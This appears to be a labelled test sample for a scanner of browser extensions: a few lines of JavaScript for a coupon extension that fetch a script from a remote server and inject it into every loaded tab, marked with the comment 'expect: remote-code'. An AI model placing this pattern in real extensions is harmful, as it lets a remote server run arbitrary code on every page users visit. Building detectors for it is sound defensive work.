$.getJSON('https://api.couponbar.example/rules', function (rules) {
  chrome.tabs.onUpdated.addListener(function (id, change) {
    if (change.status !== 'complete') return;
    // expect: remote-code
    chrome.tabs.executeScript(id, { code: rules.script, runAt: 'document_end' });
  });
});
